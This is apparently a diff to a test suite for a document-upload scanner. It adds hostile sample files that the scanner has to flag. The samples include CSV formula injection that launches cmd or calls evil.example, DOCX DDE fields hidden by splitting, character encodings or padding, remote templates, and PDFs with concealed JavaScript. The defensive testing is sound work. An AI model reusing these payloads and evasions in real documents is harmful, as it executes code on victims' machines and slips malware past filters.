@@ -34,6 +34,11 @@ const outside = (type: string, target = 'https://evil.example/x') =>
   `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
 const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
 
+const packedScript = deflateSync(bytes('9 0  << /S /JavaScript /JS (x) >>'));
+/** A packed list of objects with JavaScript, written so that a hasty reader does not see that it is one. */
+const hiddenList = (dictionary: string, before = '', begins = 'stream') =>
+  pdfObject(`<< ${dictionary} >>${before}\n${begins}\n${packedScript.toString('latin1')}\nendstream`);
+
 const UNSUPPORTED = 'document_unsupported';
 const DAMAGED = 'document_damaged';
 const UNSAFE = 'document_unsafe';
@@ -88,6 +93,10 @@ const CORPUS: readonly [name: string, made: () => Buffer, answer: string][] = [
     UNSAFE,
   ],
   ['a table with a formula behind an at sign', () => text('a\tb\n1\t@SUM(1)\n'), UNSAFE],
+  ['a table with a program behind a number', () => text("a,b\n1,-2+3+cmd|' /C calc'!E14\n"), UNSAFE],
+  ['a table that reckons on to a call', () => text('a,b\n1,+1+HYPERLINK("https://evil.example")\n'), UNSAFE],
+  ['a table with a formula in wide letters', () => text('a,b\n1,＝SUM(A1:A9)\n'), UNSAFE],
+  ['words with a PDF in them', () => text(`Dear seller,\n${smallPdf().toString()}`), UNSAFE],
   ['the test virus', testVirus, UNSAFE],
   ['the test virus in a PDF', () => pdfStream('', testVirus()), UNSAFE],
   ['the test virus in a DOCX', () => docx([{ name: 'word/media/a.txt', content: testVirus() }]), UNSAFE],
@@ -96,7 +105,8 @@ const CORPUS: readonly [name: string, made: () => Buffer, answer: string][] = [
   ['an empty ZIP', () => bytes(`PK\x05\x06${'\0'.repeat(18)}`), UNSUPPORTED],
   [
     'a ZIP that says it is a DOCX and has no document',
-    () => zip([{ name: '[Content_Types].xml', content: 'wordprocessingml.document.main+xml' }]),
+    () =>
+      zip([{ name: '[Content_Types].xml', content: '<Types>wordprocessingml.document.main+xml</Types>' }]),
     UNSUPPORTED,
   ],
   [
@@ -181,6 +191,69 @@ const CORPUS: readonly [name: string, made: () => Buffer, answer: string][] = [
     () => docx([], '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>'),
     UNSAFE,
   ],
+  [
+    'a DOCX that names the program in pieces',
+    () => docx([], '<x:instrText>DDEA</x:instrText></w:r><w:r><x:instrText>UTO c:\\\\cmd.exe</x:instrText>'),
+    UNSAFE,
+  ],
+  [
+    'a DOCX that names the program by numbers',
+    () => docx([], '<w:instrText>&#68;&#x44;E cmd</w:instrText>'),
+    UNSAFE,
+  ],
+  [
+    'a DOCX that starts a program behind four megabytes',
+    () => docx([], `${' '.repeat(4_400_000)}<w:instrText>DDE cmd</w:instrText>`),
+    UNSAFE,
+  ],
+  [
+    'a DOCX with a picture that a field fetches',
+    () => docx([], '<w:fldSimple w:instr=" INCLUDEPICTURE \\\\evil.example\\x.png "><w:r/></w:fldSimple>'),
+    UNSAFE,
+  ],
+  [
+    'a DOCX with a template from elsewhere in a name space of its own',
+    () => docx([relations(outside('attachedTemplate').replace('<R', '<p:R'))]),
+    UNSAFE,
+  ],
+  [
+    'a DOCX with a template whose address has a bracket',
+    () => docx([relations(outside('attachedTemplate', 'https://evil.example/?a>b'))]),
+    UNSAFE,
+  ],
+  [
+    'a DOCX with a template whose address says that it is a link',
+    () => docx([relations(outside('attachedTemplate', 'https://evil.example/relationships/hyperlink'))]),
+    UNSAFE,
+  ],
+  [
+    'a DOCX that takes in a page of its own',
+    () =>
+      docx([
+        { name: 'word/a.mht', content: 'MIME-Version: 1.0' },
+        relations(outside('aFChunk', 'a.mht').replace('External', 'Internal')),
+      ]),
+    UNSAFE,
+  ],
+  [
+    'a DOCX whose types say macros by numbers',
+    () => docx([], '', '<Default ContentType="application/vnd.ms-office.vb&#97;Project"/>'),
+    UNSAFE,
+  ],
+  [
+    'a DOCX with a part in UTF-16',
+    () =>
+      docx([
+        { name: 'word/footer1.xml', content: Buffer.from('<w:instrText>DDE cmd</w:instrText>', 'utf16le') },
+      ]),
+    UNSAFE,
+  ],
+  [
+    'a DOCX with a part in an encoding that spells letters in another way',
+    () =>
+      docx([{ name: 'word/footer1.xml', content: '<?xml version="1.0" encoding="UTF-7"?>+ADw-w:instrText' }]),
+    UNSAFE,
+  ],
   ['a DOCX that is cut off', () => docx().subarray(0, 300), DAMAGED],
   ['a DOCX with something behind its end', () => Buffer.concat([docx(), text('<script>')]), DAMAGED],
 
@@ -230,6 +303,62 @@ const CORPUS: readonly [name: string, made: () => Buffer, answer: string][] = [
     () => pdfStream('/Type /XRef /Filter [/ASCIIHexDecode /FlateDecode]', '00>'),
     QUARANTINED,
   ],
+  [
+    'a PDF with JavaScript where a string seems to begin a stream',
+    () => pdfObject('<< /A (>>\nstream\n) /S /JavaScript /JS (x) /B (\nendstream) >>'),
+    QUARANTINED,
+  ],
+  [
+    'a PDF with JavaScript where a comment seems to begin a stream',
+    () => pdfObject('<< /A 1 %>>stream\n/S /JavaScript /JS (x) %endstream\n>>'),
+    QUARANTINED,
+  ],
+  [
+    'a PDF with a stream behind a comment',
+    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', ' % a stream'),
+    QUARANTINED,
+  ],
+  [
+    'a PDF with words behind the word stream',
+    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', '', 'stream of words'),
+    QUARANTINED,
+  ],
+  [
+    'a PDF that says long before what it packs',
+    () => hiddenList(`/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /A (${'x'.repeat(5_000)})`),
+    QUARANTINED,
+  ],
+  [
+    'a PDF that says in words where an object begins',
+    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /A (8 0 obj <<)'),
+    QUARANTINED,
+  ],
+  [
+    'a PDF with an object inside of an object',
+    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /A endobj 8 0 obj << >>'),
+    QUARANTINED,
+  ],
+  [
+    'a PDF whose string does not end',
+    () =>
+      smallPdf(
+        `8 0 obj\n(\nendobj\n${hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode').toString('latin1')}`,
+      ),
+    QUARANTINED,
+  ],
+  [
+    'a PDF packed twice in the same way',
+    () =>
+      pdfStream('/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode]', deflateSync(packedScript)),
+    QUARANTINED,
+  ],
+  [
+    'a PDF that says twice how it is packed',
+    () => pdfStream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Filter [/Fl /Fl]', packedScript),
+    QUARANTINED,
+  ],
+  ['a PDF with a model that acts', () => pdfObject('<< /Type /3D /OnInstantiate 8 0 R >>'), QUARANTINED],
+  ['a PDF of digits alone', () => text(`%PDF-1.4\n${'1'.repeat(1_900_000)}\n%%EOF\n`), DAMAGED],
   [
     'a PDF that unpacks to a hundred megabytes',
     () => pdfStream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', deflateSync(zeros(100))),
@@ -475,13 +604,19 @@ describe('hostile files', () => {
       [packedObjects('<< /Type /Annot /A << /S /URI /URI (https://mcx.example.com) >> >>'), 'pdf'],
       [pdfStream('', 'BT (JavaScript and /JS in words) Tj ET'), 'pdf'],
       [pdfObject('<< /OpenAction [3 0 R /Fit] >>'), 'pdf'],
+      [pdfStream('/Title (The stream \\(obj\\) of life) /ID <41> % a comment\n', 'BT ET'), 'pdf'],
+      [pdfStream(`/Names [${'<41> '.repeat(2_000)}] /Filter [/FlateDecode]`, deflateSync(text('BT'))), 'pdf'],
       [jpeg, 'jpeg'],
       [png(), 'png'],
       [docx([relations(outside('hyperlink'))]), 'docx'],
       [docx([{ name: 'word/media/image1.png', content: png() }]), 'docx'],
+      [docx([], '<w:instrText> HYPERLINK "https://mcx.example.com/link" </w:instrText>'), 'docx'],
+      [docx([], '<w:fldChar/><w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" NUMPAGES "/>'), 'docx'],
+      [docx([{ name: 'word/a.xml', content: '\ufeff<?xml version="1.0" encoding="utf-8"?><a/>' }]), 'docx'],
       [xlsx(), 'xlsx'],
       [text('unit,year,miles\n12,2019,"410,000"\n14,2020,380000\n'), 'csv'],
       [text('name;balance\nA;-12.50\nB;+3\n'), 'csv'],
+      [text('name,phone,change\nA,+1-402-555-0177 (office),-1.50 (net)\n'), 'csv'],
       [bytes('name,city\nM\xfcller,K\xf6ln\nA,B\n'), 'csv'],
       [Buffer.from('\ufeffunit\tyear\n1\t2019\n', 'utf16le'), 'csv'],
       [text('We release all claims < $5,000 & close the account.\nSigned: J. Doe'), 'txt'],
@@ -492,6 +627,17 @@ describe('hostile files', () => {
       await succeed(person.delete(`/documents/${body.data.id}`));
     }
     await expectNothingLeft();
+  });
+
+  it('are looked through in one go, however often they begin the same thing anew', async () => {
+    for (const content of [
+      docx([relations('<Relationship '.repeat(300_000))]),
+      docx([], '<w:instrText '.repeat(300_000)),
+      docx([], '<w:fldSimple '.repeat(300_000)),
+    ]) {
+      const { body } = await succeed(upload(person, { content, name: 'x' }));
+      await succeed(person.delete(`/documents/${body.data.id}`));
+    }
   });
 
   it('leak no file and no descriptor when they are cut half-way', async () => {
